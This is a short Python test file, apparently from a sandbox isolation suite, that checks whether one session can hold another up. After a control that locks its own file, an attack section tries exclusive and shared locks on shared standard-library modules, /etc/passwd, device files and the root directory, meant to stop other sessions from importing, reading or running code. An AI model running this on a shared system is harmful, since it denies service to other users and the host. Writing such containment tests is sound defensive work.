"""Locks files that all sessions share, to hold the host or a neighbour up.

Layer: files
Escape: another session cannot import, read or run any more
Control: a file of its own can be locked
"""

# control
import fcntl
import os

own = open("own", "w")
fcntl.flock(own, fcntl.LOCK_EX) is None

# attack
import time

held = []
stdlib = os.path.dirname(os.__file__)
for path in (stdlib + "/json/__init__.py", stdlib + "/os.py", "/etc/passwd", "/dev/null", "/dev/urandom", "/"):
    fd = os.open(path, os.O_RDONLY)
    for lock in (
        lambda: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB),
        lambda: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB),
    ):
        try:
            lock()
            held.append(path)
        except OSError:
            continue
fcntl.fcntl(0, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND)
time.sleep(0.5)
len(held)
